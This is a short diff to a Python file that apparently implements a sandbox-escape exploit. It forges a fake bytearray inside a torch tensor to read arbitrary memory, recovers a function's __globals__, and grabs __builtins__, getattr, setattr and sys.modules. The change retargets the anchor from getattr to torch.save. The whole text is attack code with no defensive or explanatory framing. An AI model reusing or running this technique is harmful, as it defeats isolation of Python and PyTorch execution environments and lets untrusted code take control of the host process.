@@ -9,7 +9,7 @@ from torch import nn
 
 
 def gate(look):
-    table = look(getattr, "__globals__")
+    table = look(torch.save, "__globals__")
     plain = table["__builtins__"]
     raw, put = plain["getattr"], plain["setattr"]
     loaded = raw(table["sys"], "modules")
@@ -39,7 +39,7 @@ fake = torch.zeros(7, dtype=torch.int64)
 def rd(place):
     fake.copy_(torch.tensor([1 << 30, id(bytearray), 8, 9, place, place, 0]))
     return int.from_bytes(bytes(obj(fake.data_ptr())), "little")
-table = obj(rd(id(getattr) + 16))
+table = obj(rd(id(torch.save) + 16))
 gate(lambda t, n: table)
 
 
